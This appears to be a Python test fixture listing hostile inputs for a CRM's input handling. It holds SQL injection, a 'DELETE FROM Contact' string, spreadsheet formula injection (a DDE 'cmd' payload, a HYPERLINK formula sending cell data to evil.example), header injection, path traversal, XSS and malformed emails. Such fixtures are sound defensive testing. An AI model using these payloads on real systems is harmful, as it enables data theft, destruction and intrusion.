"""What a person may type to make a CRM do something else than store it."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    text: str
    harmless: bool = True
    """Whether it has to arrive: a person may have meant it. What no system stores may be refused for good instead."""


ATTACKS = (
    Attack("it's \"fine\" \\ 'really'"),
    Attack("x' OR Email != '"),
    Attack("\\' OR Name LIKE '%"),
    Attack("'; DELETE FROM Contact; --"),
    Attack('=HYPERLINK("http://evil.example/?"&A1,"click")'),
    Attack("=1+1"),
    Attack("+33 1 23"),
    Attack("-2+3+cmd|' /C calc'!A0"),
    Attack("@SUM(A1:A9)"),
    Attack("\t=1+1"),
    Attack("two\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1"),
    Attack('a;b,c"d"\n"e"'),
    Attack("../../victim?x=1#y&z=%2e%2e%2f"),
    Attack('"}],"inputs":[{"id":"victim'),
    Attack("<script>alert(1)</script><img src=x onerror=alert(1)> &amp; </p>"),
    Attack("{{ answers.reason }} ${HOME} {% raw %} %(x)s {0}"),
    Attack("zero\u200bwidth \u202eright to left\u202c 💥 é e\u0301"),
    Attack("nul \x00 and \x1b[31m", harmless=False),
    Attack("half a pair \ud83d", harmless=False),
    Attack("long " + "A" * 60_000),
)
EMAILS = (
    "o'hara@example.com",
    "x'or'1'='1@example.com",
    "a+b&c=d%40e@example.com",
    "../victim@example.com",
    "a/b?c#d@example.com",
    "=cmd|x!a@example.com",
    '"a b"@example.com',
    "%2e%2e%2fvictim@example.com",
    "a@example.com\r\nX-Evil: 1",
    "a@example.com' OR Email != '",
    "a@example.com/../../responses/victim",
    "*@example.com",
    "%@example.com",
    "..",
    "\ud83d@example.com",
)
